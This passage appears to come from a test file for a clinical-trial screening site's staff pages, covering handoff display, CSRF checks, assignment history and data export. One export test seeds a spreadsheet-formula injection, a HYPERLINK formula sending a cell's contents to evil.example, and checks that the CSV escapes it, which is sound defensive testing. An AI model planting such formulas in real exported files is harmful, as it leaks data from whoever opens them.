    ref = make(web.store, "s-d", "Kim Minji", "+821012345678", language="ko",
               flags={"emergencies": ["fever", "self_harm"], "unread": [{"criterion": "ecog", "text": "so-so"}, "age"]},
               answers=[("age", "pass", "Age 58 is fine."),
                        ("life_expectancy", "deferred", "Judged by the study doctor."),
                        ("ecog", "unknown", "The answer does not settle this; the study team will check."),
                        ("recent_chemo", "unknown", "Last cancer medicine a week ago, less than 14 days ago. "
                                                    "the earliest start would be 9 December 2026, and the study team "
                                                    "will confirm.", "2026-12-09")])
    csrf = await signed_in(web, lang="en")
    page = await (await web.get(f"/staff/handoffs/{ref}")).text()
    check = page[page.index('id="points"'):page.index('id="contact-title"')]
    assert "Judged by the study doctor." in check and "does not settle this" in check
    assert "Age 58 is fine." not in check
    assert "Earliest date: Wed 9 Dec 2026" in check
    assert "Urgent advice given: fever" in check and "Crisis lines given: thoughts of self-harm" in check
    assert "so-so" in check and check.count("flag unread") == 2
    assert page.index('id="points"') < page.index('id="criteria-title"') < page.index('id="transcript-title"')
    assert 'href="tel:+821012345678"' in page and 'href="mailto:s-d@example.com"' in page
    assert '<strong id="language">Korean</strong>' in page  # the conversation's language
    assert "Created Wed 25 Nov 2026, 10:00 am" in page  # Seoul time

    r = await web.post(f"/staff/handoffs/{ref}/assign", data={"csrf": csrf, "assigned_to": "bob"},
                       allow_redirects=False)
    assert r.status == 302
    r = await web.post(f"/staff/handoffs/{ref}/follow-up", data={"csrf": csrf, "follow_up_on": "2026-12-01"},
                       allow_redirects=False)
    assert r.status == 302
    r = await web.post(f"/staff/handoffs/{ref}/assign", data={"csrf": "forged", "assigned_to": "alice"},
                       allow_redirects=False)
    assert r.status == 403
    r = await web.post(f"/staff/handoffs/{ref}/assign", data={"csrf": csrf, "assigned_to": "mallory"},
                       allow_redirects=False)
    assert r.status == 400
    h = web.store.handoff(ref)
    assert h.assigned_to == "bob" and h.follow_up_on == date(2026, 12, 1)
    page = await (await web.get(f"/staff/handoffs/{ref}")).text()
    history = page[page.index('id="history"'):]
    assert "<td>alice</td><td>assigned</td><td>nobody → bob</td>" in history
    assert "<td>alice</td><td>follow-up date set</td><td>- → Tue 1 Dec 2026</td>" in history
    assert "<td>alice</td><td>viewed</td><td></td>" in history


async def test_a_callback_request_has_no_result_and_does_not_break(web):
    ref = make(web.store, "s-e", "Lee Callback", "+821055556666", kind="callback")
    await signed_in(web, lang="en")
    r = await web.get(f"/staff/handoffs/{ref}")
    page = await r.text()
    assert r.status == 200 and '<strong id="kind">Callback request</strong>' in page
    assert "No answers recorded: this person asked for a call back." in page
    assert "Outcome:" not in page


# ---------------------------------------------------------------- export

async def test_csv_download_cannot_run_formulas(web):
    ref = make(web.store, "s-f", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+821012345678")
    web.store.set_status(ref, "contacted", "@SUM(1+1)", "test")
    await signed_in(web)
    r = await web.get("/staff/export", params={"format": "csv"})
    body = await r.read()
    assert r.headers["Content-Type"].startswith("text/csv") and "charset=utf-8" in r.headers["Content-Type"]
    assert body.startswith(b"\xef\xbb\xbf")
    row = next(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["phone"] == "'+821012345678"
    assert row["notes"].startswith("'[") or row["notes"].startswith("[")
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    r = await web.get("/staff/export", params={"format": "json"})
    data = json.loads(await r.text())
    assert data[0]["name"].startswith("=HYPERLINK") and data[0]["phone"] == "+821012345678"
